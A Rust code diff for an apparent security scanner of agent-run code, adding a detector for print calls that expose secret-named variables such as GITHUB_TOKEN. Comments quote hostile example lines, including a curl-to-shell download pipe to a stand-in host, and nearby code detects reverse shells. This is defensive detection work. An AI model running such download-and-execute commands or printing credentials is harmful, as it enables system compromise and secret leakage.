@@ -437,6 +437,64 @@ fn char_codes_payload(code: &str) -> Option<String> {
     (best.chars().count() >= 2).then_some(best)
 }
 
+/// The first secret-named identifier ([`super::exfil::secret_name`], upper-case words only:
+/// `SECRET_KEY`, `GITHUB_TOKEN`, `DB_PASSWORD`) inside the argument of a print call of the
+/// code (`print(`, `console.log(`, `puts `, `p `, `echo `, `print_r(`, `var_dump(`,
+/// `Write-Output `), at most 8 calls looked at.
+fn printed_secret_name(code: &str) -> Option<String> {
+    const PRINTS: &[&str] = &[
+        "print(",
+        "console.log(",
+        "console.error(",
+        "puts ",
+        "puts(",
+        "pp ",
+        "print_r(",
+        "var_dump(",
+        "echo ",
+        "Write-Output ",
+    ];
+    for p in PRINTS {
+        for (i, _) in code.match_indices(p).take(8) {
+            let arg: String = code[i + p.len()..]
+                .chars()
+                .take_while(|c| !matches!(c, ';' | '\n'))
+                .take(200)
+                .collect();
+            let mut at = 0;
+            for w in arg.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')) {
+                let start = at;
+                at += w.len() + 1;
+                let named = w.len() >= 6
+                    && w.chars().any(|c| c.is_ascii_uppercase())
+                    && !w.chars().any(|c| c.is_ascii_lowercase())
+                    && super::exfil::secret_name(w);
+                if !named {
+                    continue;
+                }
+                // In quotes the name is text, unless it is the key of an environment lookup
+                // (`os.environ['X']`, `getenv("X")`, `ENV['X']`, `env::var("X")`).
+                let before = arg.get(..start).unwrap_or("");
+                let quoted = before.ends_with(['\'', '"']);
+                let lookup = [
+                    "environ[",
+                    "environ.get(",
+                    "getenv(",
+                    "ENV[",
+                    "ENV.fetch(",
+                    "env::var(",
+                ]
+                .iter()
+                .any(|k| before.trim_end_matches(['\'', '"']).ends_with(k));
+                if !quoted || lookup {
+                    return Some(w.to_string());
+                }
+            }
+        }
+    }
+    None
+}
+
 /// The string literals of `code` (between matching `"` or `'`, backslash escapes undone) that
 /// name a download program and pipe into a shell (`curl -s http://x/j | sh`), at most 8.
 fn shell_pipe_literals(code: &str) -> Vec<String> {
@@ -1874,6 +1932,18 @@ pub(crate) fn scan(
     let socket = !peers.is_empty() || SOCKET_OPEN.iter().any(|m| code.contains(m));
     if socket && SHELL_ON_SOCKET.iter().any(|m| code.contains(m)) {
         a.remote_exec("reverse_shell", interp, peers.first().cloned(), &ev_code);
+    }
+    // A secret printed by the code itself (`print(os.environ['STRIPE_SECRET_KEY'])`,
+    // `print(settings.SECRET_KEY)`, `console.log(process.env.GITHUB_TOKEN)`, `puts
+    // ENV['DB_PASSWORD']`): a print call whose argument names a secret-named variable or
+    // setting, shown where the agent reads it (`shell/secret-print`).
+    if let Some(name) = printed_secret_name(code) {
+        a.facts.secret_prints.push(crate::facts::SecretPrintFact {
+            program: interp.to_string(),
+            form: format!("print {name}"),
+            captured: st.captured,
+            evidence: ev_code.clone(),
+        });
     }
     // A language whose process calls the scanner has no table for (Java's
     // `Runtime.getRuntime().exec(new String[]{"sh","-c","curl … | sh"})` in jshell, Groovy,
